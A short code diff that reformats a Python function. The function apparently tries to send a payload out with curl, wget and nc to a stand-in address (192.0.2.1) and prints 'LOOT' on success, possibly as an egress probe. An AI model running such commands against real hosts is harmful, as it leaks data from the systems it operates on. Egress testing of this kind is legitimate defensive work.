@@ -15,7 +15,11 @@ import subprocess
 
 
 def run(payload, context):
-    for command in (["curl", "-d", payload, "http://192.0.2.1/"], ["wget", "http://192.0.2.1/"], ["nc", "192.0.2.1", "9"]):
+    for command in (
+        ["curl", "-d", payload, "http://192.0.2.1/"],
+        ["wget", "http://192.0.2.1/"],
+        ["nc", "192.0.2.1", "9"],
+    ):
         try:
             subprocess.run(command, check=True, capture_output=True, timeout=2)
             print("LOOT", command)
